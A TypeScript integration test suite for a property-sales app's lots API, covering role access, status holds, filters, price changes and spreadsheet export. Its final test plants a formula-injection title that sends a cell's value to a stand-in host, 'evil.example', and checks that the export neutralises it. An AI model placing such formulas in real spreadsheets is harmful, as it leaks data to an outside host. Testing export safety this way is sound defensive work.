// Over 400 lines: the lots screen's suites (access, list, PRS, price, detail, export) share one promotion world.
import { LOT_MESSAGES, MESSAGES, XLSX_FORMATS } from '@promovente/shared';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { actionLots, applications, buildings, candidacies, candidates, logs, lots, tasks } from '../../db/schema/index.js';
import { bearer, createBuildingWithLots, createPromotion, createUser, signIn } from '../../test/fixtures.js';
import { createTestContext, type TestContext } from '../../test/harness.js';
import { isLiveFormula, loadWorkbook, readXlsx } from '../../test/xlsx-reader.js';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext();
});
afterAll(() => ctx.close());
beforeEach(() => ctx.reset());

const db = () => ctx.database.db;

/** A promotion with one building of lots, and a signed-in user of each staff type and a candidate. */
const setup = async (prices: number[] = [500_000, 700_000, 900_000], promotionValues: { multiAgency?: boolean } = {}) => {
  const promotion = await createPromotion(db(), promotionValues);
  const { building, lots: rows } = await createBuildingWithLots(db(), promotion.id, prices);
  const token = async (type: 'broker' | 'notary' | 'promoter' | 'banker' | 'architect' | 'candidate') => {
    const user = await createUser(db(), type, { promotionIds: [promotion.id], agencyId: null });
    return { user, token: await signIn(ctx.app, user.email) };
  };
  return { promotion, building, lots: rows, token };
};

const get = (url: string, token: string) => ctx.app.inject({ method: 'GET', url, headers: bearer(token) });
const put = (url: string, token: string, payload: unknown) =>
  ctx.app.inject({ method: 'PUT', url, headers: bearer(token), payload: payload as Record<string, unknown> });

let candidateCounter = 0;
const addApplication = async (
  promotionId: number,
  lotId: number,
  values: { status?: number; priority?: number; hidden?: boolean } = {},
) => {
  candidateCounter += 1;
  const [candidate] = await db()
    .insert(candidates)
    .values({ promotionId, firstName: 'Anne', lastName: `Martin${candidateCounter}`, email: `anne${candidateCounter}@test.ch` })
    .returning();
  const [candidacy] = await db().insert(candidacies).values({ promotionId, candidateId: candidate.id }).returning();
  const [application] = await db()
    .insert(applications)
    .values({
      promotionId,
      lotId,
      candidacy1Id: candidacy.id,
      status: values.status ?? 0,
      priority: values.priority ?? 9,
      hidden: values.hidden ?? false,
    })
    .returning();
  return application;
};

describe('who may call the lots routes (docs/product/access.md#route-table and docs/product/access.md#who-may-do-what)', () => {
  it('lets every staff role list lots, and refuses candidates', async () => {
    const { token } = await setup();
    for (const type of ['broker', 'notary', 'promoter', 'banker', 'architect'] as const) {
      const response = await get('/api/lots', (await token(type)).token);
      expect(response.statusCode, type).toBe(200);
      expect(response.json().total).toBe(3);
    }
    const candidate = await token('candidate');
    const refused = await get('/api/lots', candidate.token);
    expect(refused.statusCode).toBe(403);
    expect(refused.json().message).toBe(MESSAGES.accessDenied);
  });

  it('serves the Grille des prix to candidates only, without the staff columns', async () => {
    const { token } = await setup();
    const candidate = await token('candidate');
    const grid = await get('/api/candidate/lots', candidate.token);
    expect(grid.statusCode).toBe(200);
    const [row] = grid.json().data;
    expect(row).toMatchObject({ reference: 'A-101', status: 0, status_text: 'Disponible', price: 500_000, total_price: 500_000 });
    for (const hidden of ['raw_status', 'lot_ppe', 'feuillet_ppe', 'applications_count', 'best_priority', 'tasks', 'tasks_count']) {
      expect(row, hidden).not.toHaveProperty(hidden);
    }
    const broker = await token('broker');
    expect((await get('/api/candidate/lots', broker.token)).statusCode).toBe(403);
  });

  it("never shows PRS to a buyer: a lot held back reads 'Disponible' in the rows, the counts and the status filter", async () => {
    const { lots: rows, token } = await setup();
    const broker = await token('broker');
    expect((await put(`/api/lots/${rows[0].id}`, broker.token, { id: rows[0].id, status: 1 })).statusCode).toBe(200);
    // The staff see the hold.
    const staff = (await get('/api/lots', broker.token)).json();
    expect(staff.data.find((lot: { id: number }) => lot.id === rows[0].id)).toMatchObject({ status: 1, status_text: 'PRS' });

    const candidate = await token('candidate');
    const grid = await get('/api/candidate/lots', candidate.token);
    expect(grid.statusCode).toBe(200);
    expect(grid.json().data.find((lot: { id: number }) => lot.id === rows[0].id)).toMatchObject({ status: 0, status_text: 'Disponible' });
    expect(grid.json().status_counts).toEqual({ 0: 3, 1: 0, 2: 0, 3: 0, 4: 0 });
    expect(grid.body).not.toContain('PRS');
    // Asking for the available lots gives the held one too; asking for PRS gives nothing.
    expect((await get('/api/candidate/lots?status=0', candidate.token)).json().total).toBe(3);
    const prs = await get('/api/candidate/lots?status=1', candidate.token);
    expect([prs.statusCode, prs.json().total]).toEqual([200, 0]);
    expect((await get('/api/candidate/lots?status=1,4', candidate.token)).json().total).toBe(0);
    // Sorted by status, the held lot takes its place among the available ones (by reference), not after them.
    const sorted = (await get('/api/candidate/lots?orderBy=status&order=asc', candidate.token)).json().data;
    expect(sorted.map((lot: { reference: string }) => lot.reference)).toEqual(['A-101', 'A-102', 'A-103']);
  });

  it('lets only brokers change a lot', async () => {
    const { lots: rows, token } = await setup();
    for (const type of ['notary', 'promoter', 'banker', 'architect', 'candidate'] as const) {
      const response = await put(`/api/lots/${rows[0].id}`, (await token(type)).token, { id: rows[0].id, status: 1 });
      expect(response.statusCode, type).toBe(403);
    }
    const broker = await token('broker');
    expect((await get('/api/lots/download', (await token('notary')).token)).statusCode).toBe(403);
    expect((await put(`/api/lots/${rows[0].id}`, broker.token, { id: rows[0].id, status: 1 })).statusCode).toBe(200);
  });

  it("answers 404 for another promotion's lot, like a lot that does not exist", async () => {
    const { token } = await setup();
    const broker = await token('broker');
    const other = await createPromotion(db(), { title: 'Ailleurs' });
    const { lots: foreign } = await createBuildingWithLots(db(), other.id, [100_000]);
    const id = foreign[0].id;
    const missing = await get('/api/lots/999999', broker.token);
    expect(missing.statusCode).toBe(404);
    expect((await get(`/api/lots/${id}`, broker.token)).json()).toEqual(missing.json());
    expect((await put(`/api/lots/${id}`, broker.token, { id, status: 1 })).statusCode).toBe(404);
    expect((await put(`/api/lots/${id}`, broker.token, { id, price: 1000 })).statusCode).toBe(404);
    expect((await get(`/api/lots?promotion=${other.id}`, broker.token)).statusCode).toBe(404);
    const [unchanged] = await db().select().from(lots).where(eq(lots.id, id));
    expect(unchanged).toMatchObject({ rawStatus: 0, rawPrice: 100_000 });
  });
});

describe('the lots list: pagination, sort, filters (docs/product/lots.md#screens and docs/product/layout.md#sort-and-pagination)', () => {
  it('pages by 50 and answers the last page for a page beyond it', async () => {
    const prices = Array.from({ length: 60 }, (_, i) => 400_000 + i * 10_000);
    const { token } = await setup(prices);
    const broker = await token('broker');
    const first = (await get('/api/lots', broker.token)).json();
    expect(first).toMatchObject({ current_page: 1, last_page: 2, from: 1, to: 50, total: 60 });
    expect(first.data).toHaveLength(50);
    const second = (await get('/api/lots?page=2', broker.token)).json();
    expect(second).toMatchObject({ current_page: 2, last_page: 2, from: 51, to: 60, total: 60 });
    expect(second.data).toHaveLength(10);
    const ids = new Set([...first.data, ...second.data].map((l: { id: number }) => l.id));
    expect(ids.size).toBe(60);
    expect((await get('/api/lots?page=9', broker.token)).json()).toMatchObject({ current_page: 2, from: 51, to: 60 });
    expect((await get('/api/lots?page=0', broker.token)).statusCode).toBe(400);
  });

  it('sorts by the chosen column in both directions, and refuses an unknown column', async () => {
    const { token } = await setup([700_000, 500_000, 900_000]);
    const broker = await token('broker');
    const refs = async (query: string) =>
      (await get(`/api/lots?${query}`, broker.token)).json().data.map((l: { reference: string }) => l.reference);
    expect(await refs('orderBy=price&order=desc')).toEqual(['A-103', 'A-101', 'A-102']);
    expect(await refs('orderBy=price&order=asc')).toEqual(['A-102', 'A-101', 'A-103']);
    expect(await refs('orderBy=reference&order=asc')).toEqual(['A-101', 'A-102', 'A-103']);
    expect(await refs('orderBy=reference&order=desc')).toEqual(['A-103', 'A-102', 'A-101']);
    // Floors follow their shown order (sort_order), not their number.
    expect(await refs('orderBy=floor&order=asc')).toEqual(['A-101', 'A-102', 'A-103']);
    expect(await refs('orderBy=nb_rooms&order=desc')).toEqual(['A-103', 'A-102', 'A-101']);
    const bad = await get('/api/lots?orderBy=password', broker.token);
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toBe('Tri invalide');
  });

  it('filters by buildings, floors, rooms, price, search, lot public id and displayed status', async () => {
    const { promotion, lots: rows, token } = await setup([500_000, 700_000, 900_000]);
    const [other] = await db().insert(buildings).values({ promotionId: promotion.id, title: 'Bâtiment B', city: 'Rolle' }).returning();
    await db().insert(lots).values({
      promotionId: promotion.id,
      buildingId: other.id,
      lotTypeId: 6,
      floorId: 4,
      reference: 'B-1',
      title: 'Villa du lac',
      rawPrice: 1_500_000,
    });
    await db().update(lots).set({ rawStatus: 1, status: 1 }).where(eq(lots.id, rows[1].id));
    const broker = await token('broker');
    const refs = async (query: string) => {
      const body = (await get(`/api/lots?${query}`, broker.token)).json();
      return body.data.map((l: { reference: string }) => l.reference).sort();
    };
    expect(await refs(`buildings=${other.id}`)).toEqual(['B-1']);
    expect(await refs('floors=1,2')).toEqual(['A-101', 'A-102']);
    expect(await refs('nb_rooms=3.5')).toEqual(['A-102']);
    expect(await refs('price_min=600000&price_max=1000000')).toEqual(['A-102', 'A-103']);
    expect(await refs('search=villa')).toEqual(['B-1']);
    expect(await refs('search=a-10')).toEqual(['A-101', 'A-102', 'A-103']);
    expect(await refs('search=%25')).toEqual([]);
    expect(await refs(`lot=${rows[2].publicId}`)).toEqual(['A-103']);
    // An id that names no lot of the promotion answers 404, like a path id (docs/security.md).
    expect((await get('/api/lots?lot=not-a-uuid', broker.token)).statusCode).toBe(404);
    expect(await refs('status=1')).toEqual(['A-102']);
    expect(await refs('status=0')).toEqual(['A-101', 'A-103', 'B-1']);
    const counted = (await get('/api/lots?status=1', broker.token)).json();
    expect(counted.total).toBe(1);
    // The arrows' counts ignore the status filter but follow the others.
    expect(counted.status_counts).toEqual({ 0: 3, 1: 1, 2: 0, 3: 0, 4: 0 });
    expect((await get(`/api/lots?buildings=${other.id}`, broker.token)).json().status_counts).toEqual({ 0: 1, 1: 0, 2: 0, 3: 0, 4: 0 });
    // Every other control narrows them too (without any, they are counted from an index alone: migration 0045).
    const counts = async (query: string) => (await get(`/api/lots?${query}`, broker.token)).json().status_counts;
    expect(await counts('floors=1,2')).toEqual({ 0: 1, 1: 1, 2: 0, 3: 0, 4: 0 });
    expect(await counts('nb_rooms=3.5')).toEqual({ 0: 0, 1: 1, 2: 0, 3: 0, 4: 0 });
    expect(await counts('price_min=600000&price_max=1000000')).toEqual({ 0: 1, 1: 1, 2: 0, 3: 0, 4: 0 });
    expect(await counts('price_max=1000000')).toEqual(await counts('price_min=0&price_max=1000000'));
    expect(await counts('search=villa')).toEqual({ 0: 1, 1: 0, 2: 0, 3: 0, 4: 0 });
    expect(await counts(`lot=${rows[2].publicId}`)).toEqual({ 0: 1, 1: 0, 2: 0, 3: 0, 4: 0 });
    expect(await counts('')).toEqual({ 0: 3, 1: 1, 2: 0, 3: 0, 4: 0 });
    expect((await get('/api/lots?status=7', broker.token)).statusCode).toBe(400);
  });

  it('loads the related data of a page: total price, live applications with the best priority, 3 open tasks', async () => {
    const { promotion, lots: rows, token } = await setup([500_000, 700_000]);
    const [main] = rows;
    await db()
      .insert(lots)
      .values([
        {
          promotionId: promotion.id,
          buildingId: main.buildingId,
          parentId: main.id,
          lotTypeId: 1,
          floorId: 2,
          reference: 'P-1',
          rawPrice: 40_000,
        },
        {
          promotionId: promotion.id,
          buildingId: main.buildingId,
          parentId: main.id,
          lotTypeId: 7,
          floorId: 2,
          reference: 'C-1',
          rawPrice: 15_000,
          priceIncluded: true,
        },
      ]);
    await addApplication(promotion.id, main.id, { priority: 2 });
    await addApplication(promotion.id, main.id, { priority: 9 });
    await addApplication(promotion.id, main.id, { priority: 1, hidden: true });
    const broker = await token('broker');
    const soon = Date.now() + 3_600_000;
    await db()
      .insert(tasks)
      .values([
        ...Array.from({ length: 6 }, (_, i) => ({
          promotionId: promotion.id,
          lotId: main.id,
          title: `Tâche ${i + 1}`,
          endAt: new Date(soon + i * 86_400_000),
        })),
        { promotionId: promotion.id, lotId: main.id, title: 'Faite', endAt: new Date(soon), doneAt: new Date() },
        { promotionId: promotion.id, lotId: rows[1].id, title: 'En retard', endAt: new Date(Date.now() - 86_400_000) },
      ]);
    const body = (await get('/api/lots?orderBy=reference&order=asc', broker.token)).json();
    // Associated lots are not rows of the list.
    expect(body.total).toBe(2);
    const [first, second] = body.data;
    expect(first).toMatchObject({
      price: 500_000,
      total_price: 540_000,
      children_count: 2,
      applications_count: 2,
      best_priority: 2,
      tasks_count: 6,
    });
    expect(first.tasks.map((t: { title: string }) => t.title)).toEqual(['Tâche 1', 'Tâche 2', 'Tâche 3']);
    expect(second).toMatchObject({ total_price: 700_000, applications_count: 0, best_priority: null, tasks_count: 1 });
    expect(second.tasks[0]).toMatchObject({ title: 'En retard', time_status: 'late' });
    // Sorting by price uses the total price.
    const byPrice = (await get('/api/lots?orderBy=price&order=desc', broker.token)).json().data;
    expect(byPrice.map((l: { reference: string }) => l.reference)).toEqual(['A-102', 'A-101']);
  });
});

describe('PRS and back (docs/product/lots.md#states: raw 0 -> 1 and 1 -> 0 only)', () => {
  it('moves a lot to PRS and back, writing the lot history, a log row and the derived status', async () => {
    const { lots: rows, token } = await setup();
    const { user, token: broker } = await token('broker');
    const id = rows[0].id;
    const toPrs = await put(`/api/lots/${id}`, broker, { id, status: 1 });
    expect(toPrs.statusCode).toBe(200);
    expect(toPrs.json()).toEqual({ data: { code: 200 }, message: MESSAGES.statusUpdated });
    let [lot] = await db().select().from(lots).where(eq(lots.id, id));
    expect(lot).toMatchObject({ rawStatus: 1, status: 1 });

    const back = await put(`/api/lots/${id}`, broker, { id, status: 0 });
    expect(back.statusCode).toBe(200);
    [lot] = await db().select().from(lots).where(eq(lots.id, id));
    expect(lot).toMatchObject({ rawStatus: 0, status: 0 });

    const history = await db().select().from(actionLots).where(eq(actionLots.lotId, id)).orderBy(actionLots.id);
    expect(history.map((h) => [h.column, h.from, h.to, h.userId])).toEqual([
      ['raw_status', '0', '1', user.id],
      ['raw_status', '1', '0', user.id],
    ]);
    const logRows = await db().select().from(logs).where(eq(logs.lotId, id)).orderBy(logs.id);
    expect(logRows.map((l) => l.title)).toEqual(['Lot A-101 passé en PRS', 'Lot A-101 remis en Disponible']);
    expect(logRows[0]).toMatchObject({ executedById: user.id, executedOnTitle: 'A-101' });

    const detail = (await get(`/api/lots/${id}`, broker)).json().data;
    expect(detail.action_lots).toHaveLength(2);
    expect(detail.action_lots[0]).toMatchObject({
      column: 'raw_status',
      column_text: 'Statut',
      from: '1',
      to: '0',
      user: { email: user.email },
    });
  });

  it('refuses 1 -> 1, 0 -> 0 and any other status', async () => {
    const { lots: rows, token } = await setup();
    const { token: broker } = await token('broker');
    const id = rows[0].id;
    const same = await put(`/api/lots/${id}`, broker, { id, status: 0 });
    expect(same.statusCode).toBe(422);
    expect(same.json().message).toBe(LOT_MESSAGES.prsNeedsAvailableLot);
    await put(`/api/lots/${id}`, broker, { id, status: 1 });
    expect((await put(`/api/lots/${id}`, broker, { id, status: 1 })).statusCode).toBe(422);
    for (const status of [2, 3, 4, -1]) {
      const response = await put(`/api/lots/${id}`, broker, { id, status });
      expect(response.statusCode, String(status)).toBe(400);
      expect(response.json().message).toBe(LOT_MESSAGES.invalidStatus);
    }
    expect(await db().select().from(actionLots).where(eq(actionLots.lotId, id))).toHaveLength(1);
  });

  it('refuses PRS on a lot with a live application, and still lets a PRS lot be released', async () => {
    const { promotion, lots: rows, token } = await setup();
    const { token: broker } = await token('broker');
    const [a, b] = rows;
    await addApplication(promotion.id, a.id);
    const refused = await put(`/api/lots/${a.id}`, broker, { id: a.id, status: 1 });
    expect(refused.statusCode).toBe(422);
    expect(refused.json().message).toBe(LOT_MESSAGES.prsWithLiveApplication);
    // A hidden (deleted) application does not count.
    await addApplication(promotion.id, b.id, { hidden: true });
    expect((await put(`/api/lots/${b.id}`, broker, { id: b.id, status: 1 })).statusCode).toBe(200);
    // A PRS lot that got an application shows the application's status; releasing it is allowed.
    await addApplication(promotion.id, b.id, { status: 1 });
    expect((await put(`/api/lots/${b.id}`, broker, { id: b.id, status: 0 })).statusCode).toBe(200);
    const [lot] = await db().select().from(lots).where(eq(lots.id, b.id));
    expect(lot).toMatchObject({ rawStatus: 0, status: 3 });
  });

  it('checks the body: same id as the path, a status or a price but not both', async () => {
    const { lots: rows, token } = await setup();
    const { token: broker } = await token('broker');
    const id = rows[0].id;
    const mismatch = await put(`/api/lots/${id}`, broker, { id: id + 1, status: 1 });
    expect(mismatch.statusCode).toBe(400);
    expect(mismatch.json().message).toBe(LOT_MESSAGES.idMismatch);
    const both = await put(`/api/lots/${id}`, broker, { id, status: 1, price: 1000 });
    expect(both.statusCode).toBe(400);
    expect(both.json().message).toBe(LOT_MESSAGES.oneChangeAtATime);
    expect((await put(`/api/lots/${id}`, broker, { id })).json().message).toBe(LOT_MESSAGES.oneChangeAtATime);
  });
});

describe('change price (docs/product/validation.md#lot-price and docs/product/errors.md#candidates-and-lots)', () => {
  it('changes the price in CHF and records it', async () => {
    const { lots: rows, token } = await setup();
    const { user, token: broker } = await token('broker');
    const id = rows[0].id;
    const response = await put(`/api/lots/${id}`, broker, { id, price: 525_000 });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({ data: { code: 200 }, message: MESSAGES.lotUpdated });
    const [lot] = await db().select().from(lots).where(eq(lots.id, id));
    expect(lot.rawPrice).toBe(525_000);
    const [history] = await db().select().from(actionLots).where(eq(actionLots.lotId, id));
    expect(history).toMatchObject({ column: 'raw_price', from: '500000', to: '525000', userId: user.id });
    const detail = (await get(`/api/lots/${id}`, broker)).json().data;
    expect(detail.action_lots).toMatchObject([{ column: 'raw_price', column_text: 'Prix' }]);
    const [log] = await db().select().from(logs).where(eq(logs.lotId, id));
    expect(log.title).toBe("Prix du lot A-101 modifié : 500'000 CHF → 525'000 CHF");
    // The same price again changes nothing and writes nothing.
    expect((await put(`/api/lots/${id}`, broker, { id, price: 525_000 })).statusCode).toBe(200);
    expect(await db().select().from(actionLots).where(eq(actionLots.lotId, id))).toHaveLength(1);
  });

  it('validates the price: an integer, at least 0', async () => {
    const { lots: rows, token } = await setup();
    const { token: broker } = await token('broker');
    const id = rows[0].id;
    const cases: [unknown, string][] = [
      [-1000, LOT_MESSAGES.priceMin],
      [1000.5, LOT_MESSAGES.priceInteger],
      ['abc', LOT_MESSAGES.priceRequired],
    ];
    for (const [price, message] of cases) {
      const response = await put(`/api/lots/${id}`, broker, { id, price });
      expect(response.statusCode, String(price)).toBe(400);
      expect(response.json().message).toBe(message);
    }
    expect((await put(`/api/lots/${id}`, broker, { id, price: 0 })).statusCode).toBe(200);
  });

  it('refuses a price change in a multi-agency promotion', async () => {
    const { lots: rows, token } = await setup([500_000], { multiAgency: true });
    const { token: broker } = await token('broker');
    const id = rows[0].id;
    const response = await put(`/api/lots/${id}`, broker, { id, price: 600_000 });
    expect(response.statusCode).toBe(422);
    expect(response.json().message).toBe(LOT_MESSAGES.priceInMultiAgency);
    const [lot] = await db().select().from(lots).where(eq(lots.id, id));
    expect(lot.rawPrice).toBe(500_000);
    // PRS stays possible there.
    expect((await put(`/api/lots/${id}`, broker, { id, status: 1 })).statusCode).toBe(200);
  });
});

describe('lot detail, public lot and reference lists', () => {
  it('answers a lot with its associated lots, building and history', async () => {
    const { promotion, lots: rows, token } = await setup([500_000]);
    const [main] = rows;
    await db().insert(lots).values({
      promotionId: promotion.id,
      buildingId: main.buildingId,
      parentId: main.id,
      lotTypeId: 3,
      floorId: 2,
      reference: 'BX-1',
      nameChild: 'Box BX-1',
      areaHab: 18,
      rawPrice: 55_000,
    });
    const { token: notary } = await token('notary');
    const detail = (await get(`/api/lots/${main.id}`, notary)).json().data;
    expect(detail).toMatchObject({ reference: 'A-101', building: { title: 'Bâtiment A' }, total_price: 555_000, action_lots: [] });
    expect(detail.children).toEqual([
      expect.objectContaining({ reference: 'BX-1', type: 'Box', name_child: 'Box BX-1', area_hab: 18, price: 55_000 }),
    ]);
  });

  it('answers the public lot to anyone, 404 for an unknown id', async () => {
    const { promotion, lots: rows } = await setup([500_000]);
    const response = await ctx.app.inject({ method: 'GET', url: `/api/lots/public/${rows[0].publicId}` });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({
      data: {
        data: {
          id: rows[0].id,
          public_id: rows[0].publicId,
          title: '',
          reference: 'A-101',
          building: { title: 'Bâtiment A' },
          promotion: { id: promotion.id, title: promotion.title },
        },
      },
    });
    const missing = await ctx.app.inject({ method: 'GET', url: '/api/lots/public/00000000-0000-4000-8000-000000000000' });
    expect(missing.statusCode).toBe(404);
    expect((await ctx.app.inject({ method: 'GET', url: '/api/lots/public/12' })).statusCode).toBe(400);
  });

  it('lists lot types and floors', async () => {
    const { token } = await setup();
    const { token: broker } = await token('broker');
    const types = (await get('/api/lots_types', broker)).json().data;
    expect(types[0]).toEqual({ id: 1, title: 'Place de parc intérieure' });
    const floorRows = (await get('/api/lots_floors', broker)).json().data;
    expect(floorRows[0]).toEqual({ id: 1, number: -1, title: 'Rez-de-jardin', sort_order: 0 });
    expect(floorRows.at(-1)).toMatchObject({ title: 'Attique' });
  });
});

describe("'Liste des lots' (docs/product/lots.md#screens: brokers)", () => {
  it('exports the filtered rows as an .xlsx behind a signed URL', async () => {
    const prices = Array.from({ length: 55 }, (_, i) => 400_000 + i * 10_000);
    const { token } = await setup(prices);
    const { token: broker } = await token('broker');
    const query = 'price_min=500000&orderBy=price&order=asc';
    const listed = (await get(`/api/lots?${query}`, broker)).json();
    expect(listed.total).toBe(45);
    const response = await get(`/api/lots/download?${query}`, broker);
    expect(response.statusCode).toBe(200);
    const { url } = response.json().data;
    expect(url).toMatch(/^\/api\/files\/[0-9a-f-]+\/download\?/);
    const file = await ctx.app.inject({ method: 'GET', url });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toContain('spreadsheetml');
    const workbook = await loadWorkbook(file.rawPayload);
    const sheet = workbook.getWorksheet('Lots');
    expect(sheet?.rowCount).toBe(1 + 45);
    expect(sheet?.getRow(1).getCell(2).value).toBe('Lot');
    expect(sheet?.getRow(2).getCell(2).value).toBe(listed.data[0].reference);
    expect(sheet?.getRow(2).getCell(11).value).toBe(500_000);
    expect(sheet?.getRow(46).getCell(11).value).toBe(940_000);
    // Numbers stay numbers, shown as on the screens: apostrophe thousands, rooms and areas as typed.
    expect(sheet?.getRow(2).getCell(11).numFmt).toBe(XLSX_FORMATS.amount);
    expect(typeof sheet?.getRow(2).getCell(7).value).toBe('number');
    // 'General' is Excel's default format: the file leaves it unwritten.
    expect(sheet?.getRow(2).getCell(7).numFmt ?? XLSX_FORMATS.decimal).toBe('General');
  });
  it('writes a title a spreadsheet would run as inert text, in the file and once saved as CSV (openpyxl, Gnumeric)', async () => {
    const { token } = await setup([500_000, 600_000]);
    const { token: broker } = await token('broker');
    const hostile = '=HYPERLINK("http://evil.example/?x="&B2,"Plan")';
    await ctx.database.db.update(lots).set({ title: hostile, exposure: '-Sud' }).where(eq(lots.rawPrice, 500_000));
    const { url } = (await get('/api/lots/download?orderBy=price&order=asc', broker)).json().data;
    const read = readXlsx((await ctx.app.inject({ method: 'GET', url })).rawPayload);
    expect(read.formulas).toEqual([]);
    expect(read.cells[1][2]).toMatchObject({ type: 's', value: `'${hostile}` });
    expect(read.csv[1][2]).toBe(`'${hostile}`);
    expect(read.csv[1][9]).toBe("'-Sud");
    expect(read.cells[1][10]).toMatchObject({ type: 'n', value: 500_000 });
    expect(read.csv.flat().filter(isLiveFormula)).toEqual([]);
  });
});
